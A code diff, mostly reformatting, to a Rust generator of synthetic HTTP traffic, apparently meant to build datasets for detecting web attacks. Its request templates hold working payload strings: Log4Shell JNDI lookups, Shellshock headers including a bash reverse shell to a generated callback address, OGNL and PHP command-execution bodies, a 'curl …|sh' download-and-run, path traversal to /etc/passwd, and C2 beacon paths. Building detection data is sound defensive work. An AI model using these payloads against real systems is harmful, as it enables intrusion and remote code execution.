@@ -5,6 +5,7 @@
 //! check-ins.
 
 use std::collections::{BTreeSet, HashMap};
+use std::fmt::Write as _;
 use std::path::Path;
 
 use anyhow::{Context, Result, bail, ensure};
@@ -52,19 +53,56 @@ pub const USER_AGENTS: &[&str] = &[
 ];
 
 /// Tool user agents that some attacks keep (others hide behind browser strings).
-const TOOL_AGENTS: &[&str] = &["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3", "zgrab/0.x"];
+const TOOL_AGENTS: &[&str] = &[
+    "sqlmap/1.8#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.5.0)",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "masscan/1.3",
+    "zgrab/0.x",
+];
 
 /// Ordinary paths of web sites.
 const SITE_PATHS: &[&str] = &[
-    "/", "/index.html", "/about", "/contact", "/products", "/products/item", "/blog", "/blog/2024/05/release-notes",
-    "/search", "/login", "/account", "/cart", "/checkout", "/api/v1/items", "/api/v2/users/me", "/news", "/help/faq",
-    "/static/css/site.css", "/static/js/app.js", "/static/js/vendor.min.js", "/images/logo.png", "/images/hero.jpg",
-    "/fonts/inter.woff2", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/feed.xml", "/docs/getting-started",
-    "/wp-content/themes/site/style.css", "/assets/app-4f3a9c.js", "/downloads", "/en/support", "/de/produkte",
+    "/",
+    "/index.html",
+    "/about",
+    "/contact",
+    "/products",
+    "/products/item",
+    "/blog",
+    "/blog/2024/05/release-notes",
+    "/search",
+    "/login",
+    "/account",
+    "/cart",
+    "/checkout",
+    "/api/v1/items",
+    "/api/v2/users/me",
+    "/news",
+    "/help/faq",
+    "/static/css/site.css",
+    "/static/js/app.js",
+    "/static/js/vendor.min.js",
+    "/images/logo.png",
+    "/images/hero.jpg",
+    "/fonts/inter.woff2",
+    "/favicon.ico",
+    "/robots.txt",
+    "/sitemap.xml",
+    "/feed.xml",
+    "/docs/getting-started",
+    "/wp-content/themes/site/style.css",
+    "/assets/app-4f3a9c.js",
+    "/downloads",
+    "/en/support",
+    "/de/produkte",
 ];
 
 /// Parameter names seen on ordinary sites.
-const PARAM_NAMES: &[&str] = &["id", "q", "page", "user", "name", "search", "cat", "item", "lang", "redirect", "file", "sort", "ref", "token", "email"];
+const PARAM_NAMES: &[&str] = &[
+    "id", "q", "page", "user", "name", "search", "cat", "item", "lang", "redirect", "file", "sort", "ref", "token",
+    "email",
+];
 
 /// One plaintext request: its bytes and a kind of answer.
 #[derive(Clone, Debug)]
@@ -121,15 +159,18 @@ fn params_rows(data: &Path, attack_type: &str) -> Result<Vec<String>> {
 impl HttpCorpus {
     /// Loads what the families of `cat` use from the shared data directory.
     pub fn load(cat: &Catalogue, data: &Path, families: &BTreeSet<String>) -> Result<Self> {
-        let mut corpus = Self { csic: Vec::new(), queries: Vec::new(), payloads: HashMap::new(), probes: HashMap::new() };
+        let mut corpus =
+            Self { csic: Vec::new(), queries: Vec::new(), payloads: HashMap::new(), probes: HashMap::new() };
         for f in cat.family.iter().filter(|f| families.contains(&f.name)) {
             match &f.http {
                 Some(HttpSource::Csic) if corpus.csic.is_empty() => corpus.csic = load_csic(data)?,
                 Some(HttpSource::Queries) if corpus.queries.is_empty() => {
                     let path = data.join("modsec_learn_queries/legitimate_openappsec_part6.json");
                     let text = std::fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
-                    let all: Vec<String> = serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
-                    corpus.queries = all.into_iter().filter(|q| q.len() <= 1500).collect::<BTreeSet<_>>().into_iter().collect();
+                    let all: Vec<String> =
+                        serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
+                    corpus.queries =
+                        all.into_iter().filter(|q| q.len() <= 1500).collect::<BTreeSet<_>>().into_iter().collect();
                 }
                 Some(HttpSource::Payloads { files, params_attack_type, .. }) => {
                     let mut lines = read_lines(data, files)?;
@@ -209,7 +250,11 @@ fn load_csic(data: &Path) -> Result<Vec<(String, String, String)>> {
 
 /// A user agent: browsers most of the time.
 pub fn pick_agent<R: Rng>(rng: &mut R, scripted: bool) -> &'static str {
-    if scripted || rng.random_bool(0.2) { USER_AGENTS[5 + rng.random_range(0..5)] } else { USER_AGENTS[rng.random_range(0..5)] }
+    if scripted || rng.random_bool(0.2) {
+        USER_AGENTS[5 + rng.random_range(0..5)]
+    } else {
+        USER_AGENTS[rng.random_range(0..5)]
+    }
 }
 
 fn asset_path<R: Rng>(rng: &mut R) -> String {
@@ -231,7 +276,12 @@ fn header_safe(s: &str) -> String {
     s.chars().filter(|c| !c.is_control()).collect()
 }
 
-fn inject_payload<R: Rng>(rng: &mut R, payload: &str, place: Injection, headers: &mut Vec<(String, String)>) -> (String, String, String) {
+fn inject_payload<R: Rng>(
+    rng: &mut R,
+    payload: &str,
+    place: Injection,
+    headers: &mut Vec<(String, String)>,
+) -> (String, String, String) {
     let path = SITE_PATHS.choose(rng).copied().unwrap_or("/");
     let param = PARAM_NAMES.choose(rng).copied().unwrap_or("id");
     match place {
@@ -244,7 +294,8 @@ fn inject_payload<R: Rng>(rng: &mut R, payload: &str, place: Injection, headers:
             ("GET".to_owned(), format!("/files{sep}{seg}"), String::new())
         }
         Injection::Header => {
-            let name = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version"].choose(rng).copied().unwrap_or("Referer");
+            let name =
+                ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version"].choose(rng).copied().unwrap_or("Referer");
             headers.push((name.to_owned(), header_safe(payload)));
             ("GET".to_owned(), path.to_owned(), String::new())
         }
@@ -253,7 +304,10 @@ fn inject_payload<R: Rng>(rng: &mut R, payload: &str, place: Injection, headers:
             ("POST".to_owned(), path.to_owned(), format!("{param}={}&submit=1", enc(payload)))
         }
         Injection::Cookie => {
-            headers.push(("Cookie".to_owned(), format!("session={}; {param}={}", rng.random_range(100_000..999_999), enc(payload))));
+            headers.push((
+                "Cookie".to_owned(),
+                format!("session={}; {param}={}", rng.random_range(100_000..999_999), enc(payload)),
+            ));
             ("GET".to_owned(), path.to_owned(), String::new())
         }
     }
@@ -278,11 +332,18 @@ fn rand_token<R: Rng>(rng: &mut R, len: usize) -> String {
     (0..len).map(|_| ALPHA[rng.random_range(0..ALPHA.len())] as char).collect()
 }
 
+#[expect(clippy::too_many_lines, reason = "one arm per template, each a few lines")]
 fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>) -> Result<(String, String, String)> {
     let cb = format!("198.19.{}.{}", rng.random_range(1..250), rng.random_range(1..250));
     Ok(match name {
         "log4shell" => {
-            let lookups = ["${jndi:ldap://CB/a}", "${jndi:rmi://CB:1099/Exploit}", "${${lower:j}ndi:${lower:l}dap://CB/x}", "${${::-j}${::-n}${::-d}${::-i}:ldap://CB/o}", "${jndi:dns://CB/q}"];
+            let lookups = [
+                "${jndi:ldap://CB/a}",
+                "${jndi:rmi://CB:1099/Exploit}",
+                "${${lower:j}ndi:${lower:l}dap://CB/x}",
+                "${${::-j}${::-n}${::-d}${::-i}:ldap://CB/o}",
+                "${jndi:dns://CB/q}",
+            ];
             let l = lookups.choose(rng).copied().unwrap_or("${jndi:ldap://CB/a}").replace("CB", &cb);
             let where_ = rng.random_range(0..3);
             match where_ {
@@ -298,16 +359,28 @@ fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>
             }
         }
         "shellshock" => {
-            let cmds = ["/bin/bash -c 'cat /etc/passwd'", "/usr/bin/id", "/bin/bash -i >& /dev/tcp/CB/4444 0>&1", "/bin/echo vulnerable"];
+            let cmds = [
+                "/bin/bash -c 'cat /etc/passwd'",
+                "/usr/bin/id",
+                "/bin/bash -i >& /dev/tcp/CB/4444 0>&1",
+                "/bin/echo vulnerable",
+            ];
             let cmd = cmds.choose(rng).copied().unwrap_or("/usr/bin/id").replace("CB", &cb);
             let header = ["User-Agent", "Referer", "Cookie"].choose(rng).copied().unwrap_or("User-Agent");
             headers.push((header.to_owned(), format!("() {{ :; }}; echo; {cmd}")));
-            let path = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/bash"].choose(rng).copied().unwrap_or("/cgi-bin/test.cgi");
+            let path = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/bash"]
+                .choose(rng)
+                .copied()
+                .unwrap_or("/cgi-bin/test.cgi");
             ("GET".to_owned(), path.to_owned(), String::new())
         }
         "phpunit_eval" => {
-            let prefix = ["", "/vendor", "/laravel/vendor", "/lib/vendor", "/app/vendor"].choose(rng).copied().unwrap_or("");
-            let body = ["<?php echo md5(\"phpunit\"); ?>", "<?php system('id'); ?>", "<?php echo(php_uname()); ?>"].choose(rng).copied().unwrap_or("<?php phpinfo(); ?>");
+            let prefix =
+                ["", "/vendor", "/laravel/vendor", "/lib/vendor", "/app/vendor"].choose(rng).copied().unwrap_or("");
+            let body = ["<?php echo md5(\"phpunit\"); ?>", "<?php system('id'); ?>", "<?php echo(php_uname()); ?>"]
+                .choose(rng)
+                .copied()
+                .unwrap_or("<?php phpinfo(); ?>");
             headers.push(("Content-Type".to_owned(), "text/html".to_owned()));
             ("POST".to_owned(), format!("{prefix}/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), body.to_owned())
         }
@@ -317,11 +390,19 @@ fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>
                 "Content-Type".to_owned(),
                 format!("%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{cmd}').(#p=new java.lang.ProcessBuilder({{'/bin/sh','-c',#cmd}})).(#p.start())}}"),
             ));
-            let path = ["/struts2-showcase/index.action", "/index.action", "/login.action", "/upload.action"].choose(rng).copied().unwrap_or("/index.action");
+            let path = ["/struts2-showcase/index.action", "/index.action", "/login.action", "/upload.action"]
+                .choose(rng)
+                .copied()
+                .unwrap_or("/index.action");
             ("POST".to_owned(), path.to_owned(), String::new())
         }
         "apache_traversal" => {
-            let t = ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "/icons/%%32%65%%32%65/%%32%65%%32%65/etc/hosts"];
+            let t = [
+                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+                "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+                "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
+                "/icons/%%32%65%%32%65/%%32%65%%32%65/etc/hosts",
+            ];
             let path = t.choose(rng).copied().unwrap_or(t[0]);
             if path.contains("bin/sh") {
                 ("POST".to_owned(), path.to_owned(), "echo Content-Type: text/plain; echo; id".to_owned())
@@ -331,7 +412,9 @@ fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>
         }
         "confluence_ognl" => {
             let cmd = ["id", "uname -a", "curl CB/x.sh|sh"].choose(rng).copied().unwrap_or("id").replace("CB", &cb);
-            let expr = format!("${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{cmd}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}}");
+            let expr = format!(
+                "${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{cmd}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}}"
+            );
             ("GET".to_owned(), format!("/{}/", enc(&expr)), String::new())
         }
         "spring4shell" => {
@@ -342,22 +425,47 @@ fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>
             ("POST".to_owned(), "/".to_owned(), body.to_owned())
         }
         "c2_gate" => {
-            let path = ["/gate.php", "/panel/gate.php", "/wp-content/plugins/api.php", "/index.php", "/submit.php", "/api/v1/update"].choose(rng).copied().unwrap_or("/gate.php");
+            let path = [
+                "/gate.php",
+                "/panel/gate.php",
+                "/wp-content/plugins/api.php",
+                "/index.php",
+                "/submit.php",
+                "/api/v1/update",
+            ]
+            .choose(rng)
+            .copied()
+            .unwrap_or("/gate.php");
             let len = rng.random_range(40..600);
             let blob = rand_token(rng, len);
-            headers.push(("Content-Type".to_owned(), ["application/octet-stream", "application/x-www-form-urlencoded"].choose(rng).copied().unwrap_or("application/octet-stream").to_owned()));
+            headers.push((
+                "Content-Type".to_owned(),
+                ["application/octet-stream", "application/x-www-form-urlencoded"]
+                    .choose(rng)
+                    .copied()
+                    .unwrap_or("application/octet-stream")
+                    .to_owned(),
+            ));
             ("POST".to_owned(), path.to_owned(), blob)
         }
         "c2_beacon_get" => {
-            let path = ["/jquery-3.3.1.min.js", "/pixel.gif", "/updates.rss", "/ca", "/__utm.gif", "/submit.php", "/news.php"].choose(rng).copied().unwrap_or("/pixel.gif");
+            let path =
+                ["/jquery-3.3.1.min.js", "/pixel.gif", "/updates.rss", "/ca", "/__utm.gif", "/submit.php", "/news.php"]
+                    .choose(rng)
+                    .copied()
+                    .unwrap_or("/pixel.gif");
             headers.push(("Cookie".to_owned(), format!("__cfduid={}", rand_token(rng, 64))));
             ("GET".to_owned(), format!("{path}?id={}", rand_token(rng, 12)), String::new())
         }
         "dropper_get" => {
             let len = rng.random_range(4..12);
             let name = rand_token(rng, len);
-            let ext = [".exe", ".dll", ".bin", ".ps1", ".sh", ".jpg", ".dat", ".zip"].choose(rng).copied().unwrap_or(".bin");
-            let dir = ["/", "/files/", "/wp-content/uploads/2024/", "/tmp/", "/images/", "/download/"].choose(rng).copied().unwrap_or("/");
+            let ext =
+                [".exe", ".dll", ".bin", ".ps1", ".sh", ".jpg", ".dat", ".zip"].choose(rng).copied().unwrap_or(".bin");
+            let dir = ["/", "/files/", "/wp-content/uploads/2024/", "/tmp/", "/images/", "/download/"]
+                .choose(rng)
+                .copied()
+                .unwrap_or("/");
             ("GET".to_owned(), format!("{dir}{name}{ext}"), String::new())
         }
         other => bail!("unknown template {other}"),
@@ -365,21 +473,29 @@ fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>
 }
 
 /// Serialises a request; `Content-Length` when there is a body.
-fn assemble<R: Rng>(rng: &mut R, method: &str, target: &str, host: &str, ua: &str, extra: &[(String, String)], body: &str) -> Vec<u8> {
+fn assemble<R: Rng>(
+    rng: &mut R,
+    method: &str,
+    target: &str,
+    host: &str,
+    ua: &str,
+    extra: &[(String, String)],
+    body: &str,
+) -> Vec<u8> {
     let mut s = format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
     let overrides_ua = extra.iter().any(|(k, _)| k == "User-Agent");
     if !overrides_ua {
-        s.push_str(&format!("User-Agent: {ua}\r\n"));
+        let _ = write!(s, "User-Agent: {ua}\r\n");
     }
     s.push_str("Accept: */*\r\n");
     if rng.random_bool(0.5) {
         s.push_str("Accept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\n");
     }
     for (k, v) in extra {
-        s.push_str(&format!("{k}: {v}\r\n"));
+        let _ = write!(s, "{k}: {v}\r\n");
     }
     if !body.is_empty() || method == "POST" {
-        s.push_str(&format!("Content-Length: {}\r\n", body.len()));
+        let _ = write!(s, "Content-Length: {}\r\n", body.len());
     }
     s.push_str("Connection: keep-alive\r\n\r\n");
     s.push_str(body);
@@ -411,7 +527,8 @@ mod tests {
                 let bytes = assemble(&mut rng, &m, &t, "h.test", "ua", &headers, &b);
                 let mut hs = [httparse::EMPTY_HEADER; 32];
                 let mut req = httparse::Request::new(&mut hs);
-                let status = req.parse(&bytes).unwrap_or_else(|e| panic!("{name}: {e}: {}", String::from_utf8_lossy(&bytes)));
+                let status =
+                    req.parse(&bytes).unwrap_or_else(|e| panic!("{name}: {e}: {}", String::from_utf8_lossy(&bytes)));
                 assert!(status.is_complete(), "{name}");
             }
         }
